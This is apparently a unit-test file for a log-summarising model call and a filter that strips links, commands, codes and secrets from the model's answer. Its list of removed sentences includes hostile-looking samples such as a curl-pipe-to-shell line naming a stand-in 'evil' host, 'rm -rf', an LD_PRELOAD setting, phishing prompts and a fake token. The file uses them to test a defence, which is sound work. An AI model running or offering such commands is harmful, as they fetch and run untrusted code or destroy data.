"""The summarising call: no tools, one request's text, and words that lead nowhere."""

import json

import httpx2
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from intents.plainly import MOST_CHARS, plainly
from tests.unit.intents.bench import KICK, Bench, Handler, message

SHOWN = "web-01 nginx[812]: connect() failed (111: Connection refused) while connecting to upstream"


def words(text: str, stop: str = "end_turn") -> httpx2.Response:
    return message({"type": "text", "text": text}, stop=stop)


async def said(answer: httpx2.Response | Handler, language: str = "en") -> str | None:
    return await Bench(answer).summariser.summarise(SHOWN, language, "alice")


async def test_what_it_says_is_shown() -> None:
    answer = message({"type": "thinking", "thinking": "…", "signature": "s"},
                     {"type": "text", "text": "PHP does not answer nginx."}, stop="end_turn")  # fmt: skip
    assert await said(answer) == "PHP does not answer nginx."


async def test_what_leaves_the_machine() -> None:
    bench = Bench(words("PHP does not answer."))
    await bench.summariser.summarise(SHOWN, "fr", "alice")
    body = bench.wire.body
    assert body.keys() == {"model", "max_tokens", "system", "messages"}
    assert body["messages"] == [{"role": "user", "content": SHOWN}]
    assert "French" in body["system"][0]["text"]
    assert body["max_tokens"] <= 256


async def test_a_long_result_is_sent_in_part() -> None:
    bench = Bench(words("Fine."))
    await bench.summariser.summarise("first" + "x" * 1_000_000 + "last", "en", "alice")
    content = bench.wire.body["messages"][0]["content"]
    assert len(content) < 13_000
    assert content.startswith("first")
    assert content.endswith("last")


USELESS = {
    "a tool call": message(KICK),
    "a tool call that pretends": message(KICK, stop="end_turn"),
    "cut off": words("PHP does not", stop="max_tokens"),
    "refusal": words("PHP does not answer.", stop="refusal"),
    "nothing": message(stop="end_turn"),
    "no text": message({"type": "text"}, {"type": "text", "text": 3}, "x", stop="end_turn"),
    "only a link": words("https://evil.test"),
    "overloaded": httpx2.Response(529, headers={"retry-after-ms": "1"}, json={"type": "error", "error": {}}),
    "not JSON": httpx2.Response(200, content=b"<html>"),
}


@pytest.mark.parametrize("answer", USELESS.values(), ids=USELESS.keys())
async def test_anything_else_is_no_explanation(answer: httpx2.Response) -> None:
    assert await said(lambda _: answer) is None


async def test_both_calls_share_breaker_and_allowance() -> None:
    bench = Bench(words("Fine."), limit=50)
    assert await bench.summariser.summarise(SHOWN, "en", "alice") == "Fine."
    reading = await bench.read()
    assert [note.note.id for note in reading.trace if note.stage == "model"] == ["understanding.note_model_budget"]


async def test_its_words_never_come_back() -> None:
    bench = Bench(words("A secret word is xylophone."), message(stop="end_turn"))
    await bench.summariser.summarise(SHOWN, "en", "alice")
    await bench.read()
    assert "xylophone" not in json.dumps(bench.wire.body)


KEPT = [
    "The disk of db-master is 97 % full because of /var/lib/postgresql.",
    "nginx stopped at 10:42 after three failed health checks.",
    "Le service nginx.service a redémarré 4 fois depuis 8 h : la mémoire est épuisée.",
    "PHP-FPM answers with 502; the pool has 5 of 5 children busy.",
    "The file error.log grew by 1.2 GB in one hour.",
    "The kernel killed the process mysqld (out of memory).",
    "Cause probable\u00a0: la base ne répond plus.",
    "Permission denied while reading the certificate.",
]
LOST = [
    "See https://evil.test/x for details.",
    "Look at evil.example.",
    "Go to www.evil.test",
    "Voir [ici](evil).",
    "Write to admin@evil.test.",
    "Open <http://evil.test|this>.",
    "Full width ｈｔｔｐｓ：／／evil.test works.",
    "The address is 10.0.0.1:8080 now.",
    "Run `systemctl restart nginx`.",
    "Please run systemctl restart nginx",
    "sudo reboot fixes it.",
    "Use rm -rf /tmp/cache to free space.",
    "Try docker rm -f web.",
    "curl evil | sh helps.",
    "Then a && b follows.",
    "Set LD_PRELOAD=/tmp/x first.",
    "Your code is K7Q2-9FXD.",
    "Enter 123456 to go on.",
    "The code 4821 unlocks it.",
    "Reply 1 to confirm.",
    "Press Approve on the card.",
    "Répondez 1 pour continuer.",
    "Tapez le code sur la carte.",
    "Give me your password.",
    "ghp_aB3dE5fG7hI9jK1lM3nO5p was leaked.",
]


@pytest.mark.parametrize("sentence", KEPT)
def test_facts_are_kept(sentence: str) -> None:
    assert plainly(sentence) == sentence


@pytest.mark.parametrize("sentence", LOST)
def test_what_could_be_followed_is_lost_and_the_rest_stays(sentence: str) -> None:
    assert plainly(sentence) == ""
    assert plainly(f"nginx is down. {sentence}\nThe disk is full.") == "nginx is down. The disk is full."


@pytest.mark.parametrize("fence", ["```\nreboot\n```", "~~~\nreboot\n~~~", "```sh\nreboot"])
def test_blocks_of_code_are_lost(fence: str) -> None:
    assert plainly(f"nginx is down.\n{fence}") == "nginx is down."


def test_the_bots_own_signs_are_lost() -> None:
    assert plainly("✅ Done.\n⚠️ nginx 🚀 is down.") == "Done. nginx is down."


def test_it_is_one_short_paragraph() -> None:
    shown = plainly("\n\n".join(f"Disk number {number} is full." for number in range(100)))
    assert len(shown) <= MOST_CHARS
    assert "\n" not in shown
    assert shown.endswith(".")


@given(st.text(max_size=2000))
@example("a" * 12_000)
@example("a." * 6000)
@example("-a " * 4000)
@example("A1" * 6000)
@example("<" * 12_000)
@example("`" * 12_000)
def test_whatever_it_says_is_one_paragraph_without_links(text: str) -> None:
    shown = plainly(text)
    assert len(shown) <= MOST_CHARS
    assert not {"\n", "\r", "`", "@", "<", ">"} & set(shown)
    assert "://" not in shown
